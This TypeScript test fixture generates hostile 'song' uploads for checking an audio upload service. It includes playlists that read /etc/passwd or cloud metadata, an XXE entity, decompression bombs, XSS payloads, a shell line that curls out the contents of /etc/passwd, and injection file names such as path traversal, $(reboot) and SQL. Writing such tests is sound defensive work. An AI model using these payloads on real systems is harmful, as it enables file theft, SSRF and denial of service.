import { deflateSync, gzipSync } from 'node:zlib';
import type { SeededRandom } from '../seeded-random.ts';
import { makeSilentFlac } from '../songs/flac.ts';
import { createToneSong } from '../songs/tone.ts';
import { encodeWav } from '../songs/wav.ts';

const attacks = [
  'a list of other files',
  'the start of a format',
  'cut off',
  'wrong bytes',
  'a disguise',
  'a bomb',
  'huge tags',
  'an odd name',
] as const;
type Attack = (typeof attacks)[number];

/** A file that only pretends to be a song, with the name and type of its upload. */
export interface HostileSong {
  readonly what: string;
  readonly attack: Attack;
  readonly name: string;
  readonly type: string;
  bytes(): Uint8Array<ArrayBuffer>;
  /**
   * True if the file contains sound; it may then be accepted, but must do no harm. Every other file must be
   * refused.
   */
  readonly mayBePlayed?: boolean;
}

/** The first bytes of a file in each format that may be uploaded. */
const beginnings: Readonly<Record<string, readonly number[]>> = {
  mp3: [0xff, 0xfb, 0x90, 0x64],
  wav: [...ascii('RIFF'), 0xff, 0xff, 0xff, 0x7f, ...ascii('WAVEfmt ')],
  flac: ascii('fLaC'),
  m4a: [0, 0, 0, 0x18, ...ascii('ftypM4A \0\0\0\0M4A mp42')],
  opus: [...ascii('OggS'), 0, 2, ...Array<number>(20).fill(0), 1, 19, ...ascii('OpusHead')],
};
const extensions = Object.keys(beginnings);
const mimeTypes: Readonly<Record<string, string>> = {
  ...{ mp3: 'audio/mpeg', wav: 'audio/wav', flac: 'audio/flac', m4a: 'audio/mp4', opus: 'audio/ogg' },
};

function ascii(text: string): number[] {
  return [...Buffer.from(text, 'latin1')];
}
const bytesOf = (...parts: readonly (string | readonly number[] | Uint8Array)[]) =>
  Uint8Array.from(
    Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part)))),
  );
const big32 = (value: number) => [value >>> 24, (value >>> 16) & 255, (value >>> 8) & 255, value & 255];
const little32 = (value: number) => big32(value).reverse();

/** Playlists that make an unsafe decoder read other files or URLs. */
const lists: Readonly<Record<string, string>> = {
  'an HLS playlist of files of the server':
    '#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\nhttp://127.0.0.1:1/\n#EXT-X-ENDLIST\n',
  'an HLS playlist with a key of the server':
    '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/shadow"\n#EXTINF:1,\ndata:audio/wav;base64,AA==\n',
  'a list for the concatenation of files':
    'ffconcat version 1.0\nfile /etc/passwd\nfile concat:/etc/passwd|/etc/hosts\n',
  'a playlist of an old player':
    '[playlist]\nFile1=/etc/passwd\nFile2=http://169.254.169.254/\nNumberOfEntries=2\n',
  'a playlist in XML':
    '<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><playlist><track>&x;</track></playlist>',
  'a session description': 'v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=audio 5004 RTP/AVP 0\n',
  'a cue sheet': 'FILE "/etc/passwd" BINARY\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
  'an image sequence and a filter': 'movie=/etc/passwd,lavfi:amovie=/etc/hosts\n%d.png\n',
};

/** Contents of other types, to put before, behind or in place of the sound. */
const disguises: Readonly<Record<string, string>> = {
  'a page': '<!doctype html><script>alert(document.domain)</script>',
  'a script': '#!/bin/sh\ncurl http://127.0.0.1:1/$(cat /etc/passwd)\n',
  'a PDF': '%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n',
  'a program': '\x7fELF\x02\x01\x01\0',
  'a Windows program': 'MZ\x90\0\x03\0\0\0',
  'a ZIP archive': 'PK\x03\x04\x14\0\0\0\b\0',
  'an SVG': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'a GIF': 'GIF89a/*\x01\0\x01\0*/=1;alert(1)',
};

const oddNames = [
  '../../../etc/passwd',
  '..\\..\\windows\\system.ini',
  'a\0.mp3',
  `${'x'.repeat(3_000)}.wav`,
  '"; filename="b.wav',
  '',
  '.',
  '\u202e3pm.exe.wav',
  '<img src=x onerror=alert(1)>.wav',
  "'; drop table songs; --.wav",
  '$(reboot).wav',
  '-i \u0000 -f lavfi.wav',
  'CON.wav',
  '%2e%2e%2f%2e%2e%2f.wav',
  '\ud800\udfff\ud800.wav',
] as const;

/**
 * Lists seventy hostile files: playlists that name other files, wrong and truncated headers, decompression bombs, huge
 * tags, sound with other data around it, odd names. Other seeds give other files.
 * @param encoded a short song in each format, by file extension, from which the files are made
 */
export function listHostileSongs(
  random: SeededRandom,
  encoded: Readonly<Record<string, Uint8Array>>,
): HostileSong[] {
  const song: MakeSong = (what, extension, bytes, mayBePlayed = false) => ({
    ...{ what, bytes, mayBePlayed, name: `a.${extension}`, type: mimeTypes[extension] ?? 'audio/mpeg' },
  });
  const randomBytes = (length: number) => Uint8Array.from({ length }, () => random.integer(0, 255));
  const sound = createToneSong(2);
  const all: HostileSong[] = [];
  const add = (attack: Attack, ...files: readonly HostileFile[]) =>
    all.push(...files.map((file) => ({ ...file, attack })));

  for (const [what, text] of Object.entries(lists)) {
    const extension = random.pick(extensions);
    add(
      'a list of other files',
      song(`${what}, named .${extension}`, extension, () => bytesOf(text)),
    );
  }
  for (const extension of extensions)
    for (const length of [40, 70_000]) {
      const tail = randomBytes(length);
      add(
        'the start of a format',
        song(`${length} odd bytes after the start of .${extension}`, extension, () =>
          bytesOf(beginnings[extension] ?? [], tail),
        ),
      );
    }
  for (const [extension, whole] of Object.entries(encoded)) {
    for (const share of [0.6])
      add(
        'cut off',
        song(
          `the first ${share * 100} % of .${extension}`,
          extension,
          () => Uint8Array.from(whole.subarray(0, Math.ceil(whole.length * share))),
          true,
        ),
      );
    for (const share of [0.05]) {
      const broken = Uint8Array.from(whole);
      for (let at = 0; at < broken.length * share; at += 1)
        broken[random.integer(0, broken.length - 1)] = random.integer(0, 255);
      add(
        'wrong bytes',
        song(`.${extension} with ${share * 100} % wrong bytes`, extension, () => broken, true),
      );
    }
  }
  for (const [what, text] of Object.entries(disguises)) {
    const around = random.integer(0, 2);
    if (around === 0)
      add(
        'a disguise',
        song(`${what} alone`, random.pick(extensions), () => bytesOf(text, '\n'.repeat(400))),
      );
    else if (around === 1)
      add(
        'a disguise',
        song(`${what} in front of sound`, 'mp3', () => bytesOf(text, encoded.mp3 ?? sound), true),
      );
    else
      add(
        'a disguise',
        song(`${what} behind sound`, 'wav', () => bytesOf(sound, text), true),
      );
  }
  add('a bomb', ...bombs(song, sound));
  add('huge tags', ...hugeTags(song, sound, encoded.mp3 ?? sound));
  const names = oddNames.toSorted(() => random.next() - 0.5).slice(0, 6);
  for (const [at, name] of names.entries())
    add('an odd name', {
      ...{ what: `a file named ${JSON.stringify(name).slice(0, 40)}`, name, type: 'audio/wav' },
      bytes: () => (at % 3 === 0 ? sound : bytesOf(name)),
      mayBePlayed: at % 3 === 0,
    });
  return all;
}

/**
 * Draws a few files that cover every attack and every format: up to two per attack, in alternating formats.
 */
export function drawOfEachAttack(random: SeededRandom, songs: readonly HostileSong[]): HostileSong[] {
  const types = Object.values(mimeTypes).toSorted(() => random.next() - 0.5);
  return attacks.flatMap((attack, index) => {
    const those = songs.filter((song) => song.attack === attack);
    const wanted = [types[(2 * index) % types.length], types[(2 * index + 1) % types.length]];
    const fitting = wanted
      .map((type) => those.filter((song) => song.type === type))
      .filter((ones) => ones.length > 0);
    return fitting.length > 0 ? fitting.map((ones) => random.pick(ones)) : [random.pick(those)];
  });
}

type HostileFile = Omit<HostileSong, 'attack'>;
type MakeSong = (
  what: string,
  extension: string,
  bytes: HostileSong['bytes'],
  mayBePlayed?: boolean,
) => HostileFile;

/** Small files that say they are huge, or become huge when they are decoded. */
function bombs(song: MakeSong, sound: Uint8Array<ArrayBuffer>): HostileFile[] {
  const altered = (...changes: readonly (readonly [at: number, bytes: readonly number[]])[]) => {
    const wav = Uint8Array.from(sound);
    for (const [at, bytes] of changes) wav.set(bytes, at);
    return () => wav;
  };
  return [
    song('40 hours of silence', 'flac', () => makeSilentFlac(40)),
    song('21 minutes of silence', 'flac', () => makeSilentFlac(0.35)),
    song('64 MB of zeros, zipped', 'mp3', () => bytesOf(gzipSync(Buffer.alloc(64 * 2 ** 20)))),
    song('64 MB of zeros, deflated in an MP4', 'm4a', () =>
      bytesOf(
        beginnings.m4a ?? [],
        big32(65_000),
        'moov',
        big32(64_992),
        'cmov',
        deflateSync(Buffer.alloc(64 * 2 ** 20)),
      ),
    ),
    song('a WAV of 4 GB', 'wav', altered([4, little32(0xffffffff)], [40, little32(0xffffffff)]), true),
    song('a WAV with 65,535 channels', 'wav', altered([22, [0xff, 0xff]])),
    song('a WAV without channels', 'wav', altered([22, [0, 0]])),
    song('a WAV of 4 GHz', 'wav', altered([24, little32(0xffffffff)], [28, little32(0xffffffff)]), true),
    song('a WAV of 0 Hz', 'wav', altered([24, little32(0)], [28, little32(0)]), true),
    song('a WAV of 1 Hz', 'wav', altered([24, little32(1)], [28, little32(2)]), true),
    song('a WAV with an unknown codec', 'wav', altered([20, [0x77, 0x66]])),
    song('a WAV whose block is empty', 'wav', altered([32, [0, 0]]), true),
    song('a WAV of a single sample', 'wav', () => encodeWav(new Float32Array(1))),
    song('a WAV without a sample', 'wav', () => encodeWav(new Float32Array(0))),
  ];
}

/** Files whose tags are far larger than a title, or say so. */
function hugeTags(song: MakeSong, sound: Uint8Array<ArrayBuffer>, mp3: Uint8Array): HostileFile[] {
  /** ID3 encodes a size with seven bits per byte. */
  const size = (bytes: number) => [bytes >>> 21, bytes >>> 14, bytes >>> 7, bytes].map((part) => part & 0x7f);
  const id3 = (frames: Uint8Array, claimed = frames.length) =>
    bytesOf('ID3', [4, 0, 0], size(claimed), frames, mp3);
  const frame = (name: string, content: Uint8Array | string, claimed = content.length) =>
    bytesOf(name, size(claimed), [0, 0], content);
  const text = (letters: number) => bytesOf([3], 'x'.repeat(letters));
  const atom = (name: string, content: Uint8Array, claimed = content.length + 8) =>
    bytesOf(big32(claimed), name, content);
  const nested = (depth: number) => {
    const open = Array.from({ length: depth }, (_, at) => [...big32(8 * (depth - at)), ...ascii('moov')]);
    return bytesOf(beginnings.m4a ?? [], open.flat());
  };
  const png = (width: number) =>
    bytesOf(
      [0x89],
      'PNG\r\n\x1a\n',
      big32(13),
      'IHDR',
      big32(width),
      big32(width),
      [8, 2, 0, 0, 0],
      big32(0),
    );
  const cover = (image: Uint8Array, mime: string) => frame('APIC', bytesOf([0], mime, [0, 3, 0], image));
  return [
    song('tags that claim 256 MB', 'mp3', () => id3(frame('TIT2', text(10)), 0x0fffffff), true),
    song('a title that claims 256 MB', 'mp3', () => id3(frame('TIT2', text(10), 0x0fffffff)), true),
    song('a title of 5 MB', 'mp3', () => id3(frame('TIT2', text(5_000_000))), true),
    song(
      '20,000 tags',
      'mp3',
      () => id3(bytesOf(...Array.from({ length: 20_000 }, () => frame('TXXX', text(8))))),
      true,
    ),
    song(
      'a title of control characters',
      'mp3',
      () => id3(frame('TIT2', bytesOf([3], '\0\x01\x1b[2J\u202e\u200b'.repeat(50)))),
      true,
    ),
    song(
      'a title with markup',
      'mp3',
      () => id3(frame('TIT2', bytesOf([3], '<script>alert(1)</script>'))),
      true,
    ),
    song(
      'a year, a tempo and an ISRC that are none',
      'mp3',
      () =>
        id3(
          bytesOf(
            frame('TDRC', '\x03-99999'),
            frame('TBPM', '\x03NaN'),
            frame('TSRC', `\x03${"'".repeat(900)}`),
          ),
        ),
      true,
    ),
    song('a cover of 60,000 by 60,000 pixels', 'mp3', () => id3(cover(png(60_000), 'image/png')), true),
    song(
      'a cover that is a script',
      'mp3',
      () => id3(cover(bytesOf('<svg onload="alert(1)"/>'), 'image/svg+xml')),
      true,
    ),
    song(
      'a cover that is an address',
      'mp3',
      () => id3(cover(bytesOf('http://169.254.169.254/'), '-->')),
      true,
    ),
    song('an MP4 with 4 GB of tags', 'm4a', () =>
      bytesOf(beginnings.m4a ?? [], atom('moov', bytesOf(''), 0xffffffff)),
    ),
    song('an MP4 whose first part is itself', 'm4a', () =>
      bytesOf(beginnings.m4a ?? [], atom('moov', bytesOf(''), 0)),
    ),
    song('an MP4 with parts 20,000 deep', 'm4a', () => nested(20_000)),
    song('a FLAC with four billion comments', 'flac', () =>
      bytesOf('fLaC', [0x84, 0, 0, 12], little32(0), little32(0xffffffff), little32(0xffffffff)),
    ),
    song('a FLAC of tags without end', 'flac', () =>
      bytesOf('fLaC', ...Array.from({ length: 30_000 }, () => [1, 0, 0, 4, 0, 0, 0, 0])),
    ),
    song('an Ogg of empty pages', 'opus', () =>
      bytesOf(
        ...Array.from({ length: 20_000 }, () => [...ascii('OggS'), 0, 0, ...Array<number>(20).fill(0), 0]),
      ),
    ),
    song(
      'a WAV with 20,000 empty parts',
      'wav',
      () =>
        bytesOf(
          sound.subarray(0, 12),
          ...Array.from({ length: 20_000 }, () => [...ascii('junk'), 0, 0, 0, 0]),
          sound.subarray(12),
        ),
      true,
    ),
    song(
      'a WAV whose part claims 4 GB',
      'wav',
      () => bytesOf(sound.subarray(0, 12), 'LIST', little32(0xffffffff), sound.subarray(12)),
      true,
    ),
  ];
}
